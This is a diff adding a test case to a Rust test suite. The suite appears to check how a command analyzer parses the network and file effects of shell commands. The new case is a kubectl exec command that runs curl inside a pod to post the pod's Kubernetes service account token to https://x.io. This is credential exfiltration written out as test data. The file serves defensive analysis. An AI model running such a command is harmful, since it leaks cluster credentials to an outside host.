@@ -35,6 +35,22 @@ fn what_the_host_pipes_in_is_sent_from_the_container() {
             ]),
         ),
         (
+            // A pod is another host: a file it sends is its own, matched
+            // by its path there (a service account token).
+            "kubectl exec cart-0 -- curl --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://x.io",
+            json!([
+                {"effect": "kubectl", "verb": "exec", "args": ["cart-0", "curl", "--data-binary",
+                 "@/var/run/secrets/kubernetes.io/serviceaccount/token", "https://x.io"],
+                 "context": null, "namespace": null, "files": [], "dry_run": false, "all": false},
+                url_request(
+                    "curl",
+                    "https://x.io",
+                    "POST",
+                    payload(&[], &[("/var/run/secrets/kubernetes.io/serviceaccount/token", false)], &[])
+                )
+            ]),
+        ),
+        (
             // Files of the container's own stay the container's.
             "docker run --rm curlimages/curl -T /etc/hostname https://x.io",
             json!([url_request("curl", "https://x.io", "PUT", empty())]),
